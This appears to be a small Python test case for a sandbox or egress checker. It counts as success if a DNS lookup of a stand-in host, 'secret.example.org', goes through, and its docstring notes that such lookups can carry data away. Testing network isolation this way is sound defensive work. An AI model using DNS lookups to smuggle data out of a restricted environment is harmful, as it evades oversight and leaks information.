"""Success: a name is looked up outside, which can carry data away."""
# %%
import socket

success(socket.getaddrinfo("secret.example.org", 80))
